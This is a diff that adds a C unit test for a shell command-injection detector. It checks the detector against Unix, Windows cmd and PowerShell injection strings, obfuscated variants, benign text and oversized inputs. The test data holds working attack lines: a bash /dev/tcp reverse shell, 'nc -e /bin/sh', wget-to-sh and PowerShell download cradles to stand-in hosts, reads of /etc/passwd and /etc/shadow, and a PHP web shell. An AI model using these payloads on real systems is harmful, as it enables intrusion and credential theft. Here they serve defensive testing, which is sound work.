@@ -1,0 +1,300 @@
+/* The shell detector (lw_shell.c, lw_shell_lex.c) with its default words
+ * file: command injection class by class, the English and list values it
+ * must leave alone, and inputs at the edges (empty, one byte, 8 KiB of
+ * padding or operators, unterminated quotes and expansions, deep nesting). */
+#include <stdlib.h>
+#include "lw_test.h"
+#include <apr_strings.h>
+#include "lw_detect.h"
+
+static lw_words_t *W;
+
+static int det(const char *s, lw_detect_out_t *o)
+{
+    memset(o, 0, sizeof(*o));
+    return lw_detect_shell(W, s, strlen(s), o);
+}
+
+/* STRONG, and the reason names the command (why contains want) */
+static void strong(const char *s, const char *want, int line)
+{
+    lw_detect_out_t o;
+    int v = det(s, &o);
+    if (v == LW_DETECT_STRONG && (!want || strstr(o.why, want)) && o.off + o.len <= strlen(s))
+        lw_t_pass++;
+    else {
+        lw_t_fail++;
+        fprintf(stderr, "%s:%d: FAIL: want STRONG%s%s for \"%s\", got %d \"%s\"\n",
+                __FILE__, line, want ? " with " : "", want ? want : "", s, v, o.why);
+    }
+}
+
+static void verdict(const char *s, int want, int line)
+{
+    lw_detect_out_t o;
+    int v = det(s, &o);
+    if (v == want)
+        lw_t_pass++;
+    else {
+        lw_t_fail++;
+        fprintf(stderr, "%s:%d: FAIL: want %d for \"%s\", got %d \"%s\"\n",
+                __FILE__, line, want, s, v, o.why);
+    }
+}
+
+#define STRONG(s, why) strong(s, why, __LINE__)
+#define WEAK(s) verdict(s, LW_DETECT_WEAK, __LINE__)
+#define NONE(s) verdict(s, LW_DETECT_NONE, __LINE__)
+
+static void separators(void)
+{
+    STRONG(";id", "sh:;id");
+    STRONG("x|id|", "sh:|id");
+    STRONG("a || whoami", "sh:||whoami");
+    STRONG("a && uname -a", "sh:&&uname");
+    STRONG("a & whoami", "&whoami");
+    STRONG("a\nid", "sh:\\nid");
+    STRONG("a\r\nid", "id");
+    STRONG("a\\nid", "id");                 /* a literal \n typed in */
+    STRONG("x;cd /;cd etc;base32 passwd|base32 -d", "sh:;cd");
+    STRONG("; more /etc/passwd", "sh:;more");
+    STRONG("; sleep 10", "sh:;sleep");
+    STRONG("& ping -n 21 127.0.0.1 &", "ping");
+    STRONG("x; ls -la /var/www", "sh:;ls");
+}
+
+static void substitutions(void)
+{
+    STRONG("abc`id`", "sh:`id");
+    STRONG("$(whoami)", "sh:$(whoami");
+    STRONG("x$(cat /etc/hostname)", "sh:$(cat");
+    STRONG("a<(id)", "sh:$(id");
+    STRONG("a>(sh)", "sh");
+    STRONG("$((7*7))", "sh:$((");
+    STRONG("$[3*3]", "sh:$[");
+    STRONG("${PATH:0:1}etc", "sh:${var:");
+    STRONG("${HOME#/}", "sh:${var#");
+    STRONG("() { :; }; /bin/bash -c id", "sh:() {");
+}
+
+static void evasions(void)
+{
+    STRONG(";c''at /etc/passwd", "sh:;cat");
+    STRONG(";c\"a\"t /etc/shadow", "sh:;cat");
+    STRONG(";w\\ho\\am\\i", "sh:;whoami");
+    STRONG(";who$@ami", "sh:;whoami");
+    STRONG(";c$()at /etc/passwd", "sh:;cat");
+    STRONG(";ca${x:0:0}t /etc/passwd", "cat");
+    STRONG(";cat${IFS}/etc/passwd", NULL);
+    STRONG("cat$IFS$9/etc/passwd", NULL);
+    STRONG(";{cat,/etc/passwd}", "sh:{cat");
+    STRONG(";/bi[n]/ba?h -c id", "id");
+    STRONG(";/\?\?\?/\?\?t /etc/passwd", "sh:;");  /* cat, cut ... */
+    STRONG(";more /[e]tc/pa[s]swd", "sh:;more");
+    STRONG("a;$'\\x63'at /etc/passwd", "sh:;cat");
+    STRONG(";a=c;b=at;$a$b /etc/passwd", "$var");
+    STRONG(";alias z=id; z", "sh:alias");
+    STRONG("& w^h^o^a^m^i", "whoami");
+    STRONG(";ca\\t /et\\c/pa\\sswd", "sh:;cat");
+}
+
+static void wrappers(void)
+{
+    STRONG(";$SHELL -c id", "sh:-c id");
+    STRONG(";${SHELL} -c 'cat /etc/passwd'", "cat");
+    STRONG(";env sh -c id", "id");
+    STRONG("sh -c 'uname -a'", "sh:-c uname");
+    STRONG("|xargs -I{} cat {}", "cat");
+    STRONG(";sudo -u root id", "id");
+    STRONG(";timeout 5 nc -lvp 4444", "nc");
+    STRONG("bash -i >& /dev/tcp/10.0.0.2/4444 0>&1", "bash");
+}
+
+static void values_alone(void)
+{
+    STRONG("cat /etc/passwd", "sh:cat");
+    STRONG("/bin/cat /etc/passwd", "cat");
+    STRONG("/usr/bin/id", "id");
+    STRONG("wget http://198.51.100.7/a.sh -O- | sh", "wget");
+    STRONG("nc -e /bin/sh 10.0.0.2 4444", "nc");
+    STRONG("find / -name id_rsa", "find");
+    STRONG("echo \"<?php system($_GET[0]); ?>\" > x.php", "echo");
+    STRONG("ls -la | grep root", NULL);
+    WEAK("uname -a");
+    WEAK("ls -la meaning");
+    NONE("whoami");                          /* a word, nothing around it */
+    NONE("cat videos");
+}
+
+static void windows_cmd(void)
+{
+    STRONG("& type C:\\Windows\\win.ini", "cmd:&type");
+    STRONG("| dir c:\\users", "dir");
+    STRONG("&& net user admin P@ss /add", "net");
+    STRONG("& %COMSPEC% /c whoami", "whoami");
+    STRONG("& cmd.exe /k dir", "dir");
+    STRONG("& C:\\Windows\\System32\\cmd.exe /c ver", "ver");
+    STRONG("& %SYSTEMROOT%\\system32\\whoami.exe", "whoami");
+    STRONG("& echo %COMSPEC:~-16,1%", "cmd:%var:~");
+    STRONG("& set x=who&& call %x%ami", "$var");
+    STRONG("& FOR /F \"tokens=*\" %i IN ('whoami') DO echo %i", "cmd:for");
+    STRONG("for /f %x in (list.txt) do type %x", "cmd:for");
+    STRONG("& IF EXIST C:\\Windows\\win.ini type C:\\Windows\\win.ini", "type");
+    STRONG("type %SYSTEMROOT%\\repair\\SAM", "type");
+    STRONG("&& dir C:\\", "dir");
+}
+
+static void powershell(void)
+{
+    STRONG("& powershell -enc SQBFAFgAIAAoAGkAdwByACkA", "powershell");
+    STRONG("powershell -EncodedCommand JABjAGwAaQBlAG4AdAA=", "powershell");
+    STRONG("& powershell.exe -nop -w hidden -c \"iex(iwr http://x.example/a)\"", "iex");
+    STRONG(";iwr http://evil.example/a -OutFile a.exe", "ps:;iwr");
+    STRONG("IEX(New-Object Net.WebClient).DownloadString('http://x.example/a')", "ps:");
+    STRONG("Invoke-WebRequest -Uri http://x.example/a.exe -OutFile a.exe", "invoke-webrequest");
+    STRONG("& iwmi -Class Win32_Process -Name Create", "iwmi");
+    STRONG("& gwmi win32_operatingsystem", "gwmi");
+    STRONG("[System.Convert]::FromBase64String('aWQ=')", "ps:[type]::");
+    STRONG("$env:COMSPEC", "ps:$env:");
+}
+
+static void sinks(void)
+{
+    STRONG("system('id')", "sh:sink(id");
+    STRONG("passthru('cat /etc/passwd')", "cat");
+    STRONG("<?php system(\"sleep 10\");?>", "sleep");
+}
+
+static void benign(void)
+{
+    static const char *const ok[] = {
+        "cats & dogs", "Tom & Jerry", "R&D; more info", "rock|paper|scissors",
+        "a;b;c", "for i in range", "if exist", "call me at (555) 123-4567",
+        "$5.00", "100% cotton", ":-) see you ;-)", "file_name (1).pdf",
+        "https://example.com/index.jsp;jsessionid=A1B2C3D4", "red,green,blue",
+        "\"Smith, John\",42,\"New York\"", "Fish & Chips", "Copy & Paste",
+        "Find & Replace", "Save & Exit", "Time & Date", "sales; marketing; support",
+        "see more (and less)", "what time is it; where are we", "cat; dog; bird",
+        "ping me later", "sleep 8 hours", "head & shoulders shampoo",
+        "Apple (AAPL) | Microsoft (MSFT)", "x^2 + y^2 = z^2", "f(x) = 2x + 1",
+        "1/2 cup sugar; 3/4 cup flour", "TCP/IP networking", "O'Brien & Sons",
+        "he said \"hello\" & left", "{name}", "${price}", "%USERNAME% is a variable",
+        "C:\\Users\\Public\\Documents\\resume.pdf", "~/Documents", "../index.html",
+        "What is /bin/bash?", "how to cat a file in linux", "do you want more?",
+        "Do it; then rest", "(see above)", "a > b", "Home | About | Contact",
+        "Home > Products > Shoes", "$HOME", "%PATH%", "^_^", "line1\\nline2",
+        "C:\\new folder\\test", "Get-Well soon", "Start-Up Nation",
+        "Net income & expenses", "start; stop; pause", "Type A; Type B",
+        "print | save | share", "make; model; year", "H&M", "Ben & Jerry's",
+        "Read more | Less", "order=date;dir=asc", "name=John&age=30",
+        "/shuttle/missions/sts-71/sts-71-patch.jpg", "/cgi-bin/imagemap/countdown?97,170",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
+        "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
+    };
+    size_t i;
+    for (i = 0; i < sizeof(ok) / sizeof(ok[0]); i++)
+        verdict(ok[i], LW_DETECT_NONE, __LINE__);
+    WEAK("name|id|email");              /* a list of words, one a command */
+}
+
+static void edges(apr_pool_t *p)
+{
+    lw_detect_out_t o;
+    static const char *const odd[] = {
+        "", ";", "|", "&", "`", "$", "$(", "${", "$((", "$[", "%", "'", "\"",
+        "\\", "^", "{", "}", "(", ")", "<", ">", "<(", "${IFS", "$'\\x",
+        "c'at /etc/passwd", ";${PATH:0:", "%COMSPEC:~", "$((1+", "\\n",
+        "for /f %i in (", "if exist", "& FOR /F %i IN (x) DO",
+    };
+    size_t i, n = 8192;
+    char *buf = apr_palloc(p, n + 1);
+    const char *fill = ";|&`$(){}<>'\"\\^%/*?[]!#=,. \n\ta";
+
+    for (i = 0; i < sizeof(odd) / sizeof(odd[0]); i++) {
+        int v = det(odd[i], &o);
+        CHECK(v >= LW_DETECT_NONE && v <= LW_DETECT_STRONG);
+        CHECK(o.off + o.len <= strlen(odd[i]));
+    }
+    /* not NUL-terminated: the detector must stop at len */
+    memcpy(buf, ";id", 3);
+    CHECK(lw_detect_shell(W, buf, 1, &o) == LW_DETECT_NONE);
+    CHECK(lw_detect_shell(W, buf, 3, &o) == LW_DETECT_STRONG);
+
+    /* 8 KiB of padding, then the attack: still found */
+    memset(buf, 'a', n);
+    memcpy(buf + n - 10, ";cat /etc", 9);
+    buf[n] = '\0';
+    CHECK(lw_detect_shell(W, buf, n, &o) == LW_DETECT_STRONG && o.off >= n - 10);
+    memset(buf, ' ', n);
+    memcpy(buf + n - 4, ";id", 3);
+    CHECK(lw_detect_shell(W, buf, n - 1, &o) == LW_DETECT_STRONG);
+
+    /* 8 KiB of every odd byte in turn, of one operator, of nesting */
+    for (i = 0; i < n; i++)
+        buf[i] = fill[i % strlen(fill)];
+    CHECK(lw_detect_shell(W, buf, n, &o) <= LW_DETECT_STRONG);
+    for (i = 0; fill[i]; i++) {
+        memset(buf, fill[i], n);
+        CHECK(lw_detect_shell(W, buf, n, &o) <= LW_DETECT_STRONG);
+    }
+    for (i = 0; i + 2 <= n; i += 2)
+        memcpy(buf + i, "$(", 2);
+    CHECK(lw_detect_shell(W, buf, n, &o) <= LW_DETECT_STRONG);
+    for (i = 0; i + 3 <= n; i += 3)
+        memcpy(buf + i, "${a", 3);
+    CHECK(lw_detect_shell(W, buf, n - n % 3, &o) <= LW_DETECT_STRONG);
+    for (i = 0; i + 4 <= n; i += 4)
+        memcpy(buf + i, "/?[/", 4);
+    CHECK(lw_detect_shell(W, buf, n, &o) <= LW_DETECT_STRONG);
+    /* a benign word list as long as the inspection length */
+    for (i = 0; i + 8 <= n; i += 8)
+        memcpy(buf + i, "cat dog;", 8);
+    CHECK(lw_detect_shell(W, buf, n, &o) == LW_DETECT_NONE);
+}
+
+static void words_file(apr_pool_t *p)
+{
+    lw_words_t *w2;
+    char *err = NULL;
+    int i;
+    /* every section the detector declares is used by the default file */
+    for (i = 0; i < lw_shell_nsections; i++)
+        CHECK(lw_words_section(W, lw_shell_sections[i]) == i);
+    CHECK(lw_words_count(W) > 800);
+    CHECK(lw_words_get(W, "WHOAMI", 6) != 0);
+    CHECK(lw_words_get(W, "invoke-webrequest", 17) != 0);
+    /* an admin's extension: a new command is recognised */
+    w2 = lw_words_create(p, lw_shell_sections, lw_shell_nsections);
+    CHECK(lw_words_add_text(w2, "[unix]\nfrobnicate\n", 18, "x.shell.words", &err) == APR_SUCCESS);
+    {
+        lw_detect_out_t o;
+        CHECK(lw_detect_shell(w2, ";frobnicate", 11, &o) == LW_DETECT_STRONG);
+        CHECK(lw_detect_shell(W, ";frobnicate", 11, &o) == LW_DETECT_NONE);
+    }
+    CHECK(lw_words_add_text(w2, "[nosuch]\nx\n", 11, "y.shell.words", &err) != APR_SUCCESS);
+}
+
+int main(void)
+{
+    char *err = NULL;
+    const char *path;
+    LW_TEST_BEGIN(p);
+    path = apr_pstrcat(p, lw_test_srcdir(), "/conf/signatures/shell.words", NULL);
+    W = lw_words_create(p, lw_shell_sections, lw_shell_nsections);
+    if (!W || lw_words_add_file(W, path, &err) != APR_SUCCESS) {
+        fprintf(stderr, "cannot load %s: %s\n", path, err ? err : "?");
+        return 1;
+    }
+    separators();
+    substitutions();
+    evasions();
+    wrappers();
+    values_alone();
+    windows_cmd();
+    powershell();
+    sinks();
+    benign();
+    edges(p);
+    words_file(p);
+    LW_TEST_END();
+}
